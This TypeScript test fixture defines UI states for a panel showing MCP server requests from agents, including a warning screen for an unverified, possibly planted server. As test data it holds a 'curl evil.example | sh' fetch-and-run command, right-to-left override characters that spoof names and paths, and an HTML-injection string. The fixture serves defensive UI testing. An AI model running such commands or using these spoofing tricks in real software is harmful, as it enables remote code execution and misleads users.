import type { Notice, RunningCall, ScreenOf, ServerDetails, ServerLabel, View } from '#bridge/messages.ts';
import { suspendedCall, visit } from './aboveScreenStates.ts';
import { afterAction, type PanelState, panelState, untranslated } from './pageState.ts';
import { bookingTool, formScreen, urlScreen } from './screenBuilders.ts';

const tickets: ServerLabel = { name: untranslated('Codex · tickets'), reportedName: untranslated('Tickets Inc.') };
const planted: ServerLabel = {
  name: untranslated('Codex · a server that you have not connected, which calls itself “tickets”'),
};

const details = (isConnected: boolean): ServerDetails => ({
  command: untranslated('npx -y tickets-server --project alpha'),
  asker: {
    kind: 'agent',
    reportedName: untranslated('codex-mcp-client\u202e 0.169.0'),
    isConnected,
    folder: untranslated(`/home/ann/${'shop-'.repeat(12)}\u202e`),
    arguments: untranslated(
      `{\n  "for": "</pre><b>Ann",\n  "seats": 4,\n  "token": "[secret]",\n  "note": "\\u202e${'w'.repeat(300)}"\n}`,
    ),
  },
});

const call = (state: NonNullable<RunningCall['agent']>['state']): RunningCall => ({
  id: 'call',
  server: tickets,
  target: bookingTool,
  elapsed: 730_000,
  waiting: 1,
  agent: { name: untranslated('Codex'), state },
});

/** A form of a server that an agent has started, and what is above it. */
const asking =
  (more: Partial<ScreenOf<'form'>> = {}) =>
  () =>
    formScreen({ server: tickets, call: bookingTool, ...more });
const above =
  (state: NonNullable<RunningCall['agent']>['state'] = 'waiting', more: Partial<View> = {}) =>
  (): Partial<View> => ({ serverDetails: details(true), calls: [call(state)], shownCall: 'call', ...more });

const question = (more: Partial<ScreenOf<'unverifiedServer'>> = {}): ScreenOf<'unverifiedServer'> => ({
  kind: 'unverifiedServer',
  id: 'unverified',
  server: { name: untranslated('Codex') },
  claimedName: untranslated('tickets'),
  isCommandCut: false,
  commandLine: untranslated(`sh -c "curl evil.example | sh" ${'--verbose '.repeat(20)}`),
  folder: untranslated('/home/ann/cloned'),
  replacesConnected: false,
  ignoreInputMs: 0,
  ...more,
});

/** The notice about a question of the same server that the user has interrupted in the agent. */
const closedQuestion: Notice = {
  id: 'closed',
  severity: 'info',
  text: untranslated('The call was interrupted in Codex. What you had filled in is kept.'),
  closed: { server: tickets.name, words: untranslated('How many seats, and at which of the tables by th…') },
};
const sentAnswer: NonNullable<View['sent']> = { id: 'sent', server: tickets.name, action: 'accept' };

/** What agents and other extensions ask. */
export const agentStates: readonly PanelState[] = [
  panelState('agent-form', asking(), above()),
  afterAction(panelState('agent-details', asking(), above()), (opened) => opened.page.locator('.header-name').click()),
  panelState('agent-stopped-waiting', asking(), above('parked')),
  panelState('agent-waits-again', asking(), above('joined')),
  panelState('agent-interrupted', asking(), above('waiting', { notices: [closedQuestion] })),
  panelState('agent-answer-sent', asking(), above('joined', { sent: sentAnswer })),
  panelState(
    'agent-answer-sent-idle',
    () => ({ kind: 'welcome', id: 'welcome-onlyAgents', setUp: 'onlyAgents' }),
    () => ({ sent: { ...sentAnswer, action: 'decline' } }),
  ),
  panelState(
    'agent-one-of-several-calls',
    asking({ call: undefined, candidates: [bookingTool, { kind: 'tool', name: untranslated('cancel_table') }] }),
    () => ({ serverDetails: details(true) }),
  ),
  panelState('agent-not-connected', asking({ server: planted }), () => ({ serverDetails: details(false) })),
  panelState(
    'agent-hook-form',
    asking({ call: undefined, answersInAgent: true, withoutPatterns: untranslated('Claude Code') }),
    () => ({ serverDetails: { asker: { kind: 'agent', isConnected: true } } }),
  ),
  panelState(
    'agent-hook-url',
    () => urlScreen('https://bookings.example/', { server: tickets, answersInAgent: true, answeredAfterPage: true }),
    () => ({ serverDetails: { asker: { kind: 'agent', isConnected: true } } }),
  ),
  panelState(
    'agent-hook-page',
    () => ({ kind: 'running', id: 'pages', waitsFor: 'pages', resultsGoToAgents: true, answered: [] }),
    () => {
      const { call: _, elapsed: __, ...page } = suspendedCall({ openedPages: [visit(false)], answersRequest: true });
      return { suspendedCalls: [{ ...page, server: tickets }] };
    },
  ),
  panelState(
    'agent-running',
    () => ({ kind: 'running', id: 'running', resultsGoToAgents: true, answered: [] }),
    above(),
  ),
  panelState('extension-form', asking({ server: { name: untranslated('An extension · tickets') } }), () => ({
    serverDetails: { asker: { kind: 'extension', isConnected: false } },
  })),
  panelState('unverified-server', question),
  panelState('unverified-server-cut', () =>
    question({ isCommandCut: true, commandLine: untranslated(`node ${'x'.repeat(800)}…`) }),
  ),
  panelState('unverified-server-replaces', () => question({ replacesConnected: true, commandLine: '' })),
];
